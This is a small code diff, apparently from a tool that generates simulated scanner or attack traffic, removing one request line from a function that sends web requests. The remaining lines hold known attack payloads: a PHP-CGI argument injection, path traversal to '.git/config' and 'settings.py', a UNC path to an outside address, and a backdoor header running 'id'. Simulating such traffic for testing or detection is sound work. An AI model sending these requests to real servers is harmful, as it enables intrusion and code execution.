@@ -183,6 +183,5 @@ export function writeAppliances(write: WholeWriter, chance: Chance): void {
   write.get('/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', {}, 'POST');
   write.get('/static../.git/config');
   write.get('/assets../app/settings.py');
-  write.get('/_async/AsyncResponseService', {}, 'POST');
   write.get('/%5c%5c198.51.100.7%5cshare/x', { 'user-agentt': 'zerodiumsystem("id");' });
 }
